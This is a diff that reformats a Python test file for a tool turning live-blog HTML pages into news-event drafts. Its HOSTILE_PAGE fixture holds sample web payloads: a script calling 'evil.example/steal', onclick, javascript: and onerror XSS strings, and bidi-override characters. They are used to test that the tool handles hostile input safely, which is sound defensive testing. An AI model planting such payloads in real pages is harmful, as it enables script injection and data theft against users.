@@ -22,9 +22,7 @@ DRAFT_WARNING = "summary: copies the quote of sources[0]; write it in your own w
 
 
 def briefing(project: Path, *argv: str) -> subprocess.CompletedProcess:
-    return subprocess.run(
-        [str(BRIEFING), *argv], cwd=project, capture_output=True, text=True, timeout=120, check=False
-    )
+    return subprocess.run([str(BRIEFING), *argv], cwd=project, capture_output=True, text=True, timeout=120, check=False)
 
 
 def snapshot(folder: Path) -> dict[str, bytes]:
@@ -78,8 +76,10 @@ def test_dry_run_writes_nothing(tmp_path):
     result = briefing(project, "ingest", str(FIXTURES / "liveblog.html"), "--dry-run", "--new-actors")
     assert result.returncode == 0, result.stderr
     assert "Drafts (10):" in result.stdout
-    assert result.stdout.rstrip().splitlines()[-1].startswith(
-        "Dry run: nothing written (would write 10 drafts, 1 source, 5 actors)"
+    assert (
+        result.stdout.rstrip()
+        .splitlines()[-1]
+        .startswith("Dry run: nothing written (would write 10 drafts, 1 source, 5 actors)")
     )
     assert snapshot(project) == before
 
@@ -103,7 +103,9 @@ def test_the_json_report_is_one_object_with_events_new_actors_and_skipped(tmp_pa
     assert [sorted(e)[:0] for e in report["events"]]  # a list of objects
     event = report["events"][0]
     assert (event["id"], event["date"], event["title"]) == (
-        "ukraine-says-hit-oil-depot-bryansk-region", "2024-11-21", "Ukraine says it hit an oil depot in Bryansk region"
+        "ukraine-says-hit-oil-depot-bryansk-region",
+        "2024-11-21",
+        "Ukraine says it hit an oil depot in Bryansk region",
     )
     assert event["file"] == "content/events/2024/11/ukraine-says-hit-oil-depot-bryansk-region.yaml"
     assert event["actors"] == ["ukraine", "russia"]
@@ -140,7 +142,8 @@ def test_the_repository_content_is_never_written():
     assert not list((ROOT / "content" / "events").rglob("*bryansk*"))
 
 
-HOSTILE_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
+HOSTILE_PAGE = (
+    """<!DOCTYPE html><html><head><meta charset="utf-8">
 <title>Live: "quotes", colons: and # hashes — 🚀 &lt;b&gt;</title>
 <meta property="article:published_time" content="2024-11-21T07:00:00+00:00">
 <script>fetch('https://evil.example/steal')</script></head><body><main><article>
@@ -149,10 +152,13 @@ HOSTILE_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
 <h2>Drones over Kyiv: &lt;script&gt;alert(1)&lt;/script&gt;</h2>
 <p onclick="alert(2)">Air defence units shot down drones over Kyiv overnight, the mayor said; see
 [x](javascript:alert(3)) and &lt;img src=x onerror=alert(4)&gt; \u202eand this\u202c.</p>
-<p>""" + "A very long sentence about the attack that goes on and on, " * 8 + """said officials.</p></article>
+<p>"""
+    + "A very long sentence about the attack that goes on and on, " * 8
+    + """said officials.</p></article>
 <article class="post" id="p2"><time datetime="not a date">later</time><time datetime="2024-11-21T09:00:00Z">09:00</time>
 <h2>- a heading: that starts like a list</h2><p># Kyiv's mayor said yesterday that power was back.</p></article>
 </article></main></body></html>"""
+)
 
 
 def test_hostile_text_in_a_page_gives_drafts_that_check_without_error(tmp_path):
